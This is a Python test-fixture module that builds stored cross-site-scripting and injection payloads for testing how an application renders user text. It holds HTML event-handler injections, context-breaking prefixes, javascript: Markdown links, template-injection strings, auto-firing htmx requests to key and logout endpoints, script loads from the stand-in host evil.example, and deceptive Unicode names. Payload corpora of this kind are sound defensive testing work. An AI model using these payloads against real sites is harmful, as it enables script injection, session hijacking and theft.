"""Corpus of stored texts that try to run a script, to load something, or to deceive in a page."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

HANDLERS = (
    "<img src=x onerror={run}>", "<svg onload={run}>", "<svg/onload={run}>", "<body onload={run}>",
    "<input autofocus onfocus={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>", "<marquee onstart={run}>", "<iframe onload={run}>", "<object data=x onerror={run}>",
    "<a onmouseover={run} href=x>x</a>", "<style onload={run}></style>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<math><mtext onclick={run}>x", "<p id=main onclick={run}>x</p>",
    "<script>{run}</script>", "<script src=//evil.example/x></script>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<iframe srcdoc='<script>{run}</script>'>", "<iframe src=javascript:{run}>", "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button>x</button></form>", "<button formaction=javascript:{run}>x</button>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>",
    "<div style='background:url(//evil.example/x)'>x</div>", "<img src=//evil.example/x>",
    "<isindex action=javascript:{run}>",
    "<div hx-get=/console/keys hx-trigger=load>x</div>", "<p data-hx-post=/console/logout data-hx-trigger=load>x</p>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>", "<?xml version='1'?><script>{run}</script>", "<x onclick={run}>x</x>",
)  # fmt: skip
BREAKS = ("", "'>", '">', "</textarea>", "</title>", "</script>", "--></table>", "</bdi></td>", "\\\"'`>")
"""What may end the place in a page in which a text stands."""
MARKDOWN = (
    "[x](javascript:{run})", "[x](JaVaScRiPt:{run})", "[x](java&#x09;script:{run})", "[x](&#106;avascript:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:{run})", "[x](<javascript:{run}>)", "<javascript:{run}>",
    "![x](https://evil.example/x.png)", "![x](//evil.example/x)", "![x](javascript:{run})", "[x](//evil.example)",
    '[x](https://ok.example "t\\" onmouseover={run}")', "[x]: javascript:{run}\n\n[x]", "[![x](x)](javascript:{run})",
    "[x](/console/logout)", "[x](/v1/memory_stores)", "[x](file:///etc/passwd)", "`<img src=x onerror={run}>`",
    "```\n<script>{run}</script>\n```", "    <script>{run}</script>", "| a |\n| - |\n| <img src=x onerror={run}> |",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;img src=x onerror={run}&#62;", "<https://ok.example/\"onclick={run}>",
    "[x](https://ok.example/<script>{run}</script>)", "# <svg onload={run}>", "> <svg onload={run}>",
    "- [ ] <svg onload={run}>",
    "{{{{ cycler.__init__.__globals__ }}}}", "{{% include 'login.html' %}}", "[x](https://user@ok.example:99999999/)",
    "[x](https://[evil)", "[x](mailto:a@evil.example?body={run})", "~~<b onclick={run}>x</b>~~",
    "[x](http://ok.example\u202e/gro)",
)  # fmt: skip
DECEIVING = (
    "\u202egnp.exe",
    "a\u2066b\u2069",
    "zero\u200bwidth",
    "\ufeffbom",
    "soft\u00adhyphen",
    "tag\U000e0041",
    "\u3164",
)


def run_of(number: int) -> str:
    """Script of a payload, which the detector of a browser test would see."""
    return f"window.pwned={number}"


def texts() -> list[str]:
    """Payloads for texts: each handler after each break, the Markdown, and the deceiving texts."""
    found = [start + payload for start, payload in product(BREAKS, HANDLERS)]
    return [each.format(run=run_of(at)) for at, each in enumerate([*found, *MARKDOWN])] + list(DECEIVING)


def names() -> Iterator[str]:
    """Payloads for names of actors, sources, sessions and stores: without control characters."""
    for at, payload in enumerate(HANDLERS):
        yield (BREAKS[at % len(BREAKS)] + payload.format(run=run_of(at)))[:200]


def path_names() -> Iterator[str]:
    """Payloads for names in paths: without slashes and hidden characters."""
    for at, name in enumerate(names()):
        plain = name.replace("/", "∕").replace("\\", "")[:120]
        yield f"{at} {plain}.md"
